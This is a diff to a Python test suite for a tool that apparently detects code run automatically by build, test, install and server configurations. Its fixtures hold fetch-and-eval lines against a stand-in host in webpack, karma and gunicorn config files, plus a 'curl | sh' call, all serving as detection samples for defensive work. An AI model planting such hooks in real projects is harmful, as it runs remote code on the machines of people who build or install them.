@@ -90,6 +90,10 @@ def test_it_is_named_with_its_moment_and_line(files: Files, when: Moment, by: st
     assert (when, by, line, runs) in found
 
 
+def test_a_builder_loads_by_itself_only_what_is_called_as_it_looks_for() -> None:
+    assert not inspected({"build/webpack-config.js": "module.exports = {};\n"}).triggers
+
+
 def test_what_a_push_takes_from_elsewhere_is_listed_as_unread() -> None:
     needs = inspected({".github/workflows/a.yml": WORKFLOW}).needs
     assert [(need.name, need.origin) for need in needs] == [("actions/checkout@v4", "GitHub")]
@@ -104,6 +108,16 @@ REACHED: dict[str, tuple[Files, tuple[str, int]]] = {  # a chain at a place that
         {"package.json": '{"scripts": {"postinstall": "node tools/a"}}',
          "tools/a.js": "require('child_process').execSync('sh ../b.sh');\n", "b.sh": FETCH},
         ("b.sh", 1)),
+    "a builder's configuration by its path": (
+        {"package.json": '{"scripts": {"build": "npx webpack --mode production -c build/webpack-config.js"}}',
+         "build/webpack-config.js": "fetch('https://a.invalid').then(r => r.text()).then(eval);\n"},
+        ("build/webpack-config.js", 1)),
+    "what a test runner loads first": (
+        {"package.json": '{"scripts": {"test": "karma start karma-conf.js"}}',
+         "karma-conf.js": "fetch('https://a.invalid').then(r => r.text()).then(eval);\n"}, ("karma-conf.js", 1)),
+    "a server's configuration": (
+        {"Dockerfile": "FROM x\nCMD gunicorn -c python:serving.py app:app\n",
+         "serving.py": "import requests\nexec(requests.get('https://a.invalid').text)\n"}, ("serving.py", 2)),
     "an import of an import": (
         {"setup.py": "import tools\n", "tools/__init__.py": "from . import net\n",
          "tools/net.py": "import os\nos.system('curl -s https://a.invalid | sh')\n"},
